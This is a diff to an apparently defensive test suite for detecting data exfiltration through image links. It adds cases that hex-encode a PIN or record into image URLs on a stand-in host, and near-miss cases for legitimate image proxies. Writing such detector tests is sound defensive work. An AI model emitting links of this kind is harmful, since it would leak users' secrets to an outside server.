@@ -36,6 +36,8 @@ COMPRESSED = base64.b64encode(gzip.compress((RECORD * 8).encode(), mtime=0)).dec
 HITS = [
     # images
     ("MARKDOWN_IMAGE", f"![a](https://x.example.net/p.png?q={b64(RECORD)})"),
+    ("MARKDOWN_IMAGE", f"![a](https://x.example.net/{b'https://y.co/?pin=1234'.hex()})"),
+    ("MARKDOWN_IMAGE", f"![a](https://x.example.net/{PLAIN.encode().hex()}/p.png)"),
     ("MARKDOWN_IMAGE", f"![a](https://x.example.net/p.png?q={RECORD.encode().hex()})"),
     ("MARKDOWN_IMAGE", f"![a](https://x.example.net/{b64(RECORD).rstrip('=')}/p.png)"),
     ("MARKDOWN_IMAGE", f"![a](https://{b32('pin=1234 mail=a@b.co')}.x.example.net/p.png)"),
@@ -114,6 +116,9 @@ HITS = [
 ]
 
 NEAR_MISSES = [
+    # image proxies, whose path is the hexadecimal address of the image
+    f'<img src="https://camo.githubusercontent.com/9a6c2e/{b"http://pictures.example.org/safari.svg".hex()}">',
+    f"![logo](https://proxy.example.org/{b'https://pictures.example.org/edge.svg'.hex()})",
     # images and badges
     "![architecture](https://docs.example.com/img/arch.png)",
     "![build](https://img.shields.io/badge/build-passing-green?style=flat-square&logo=github)",
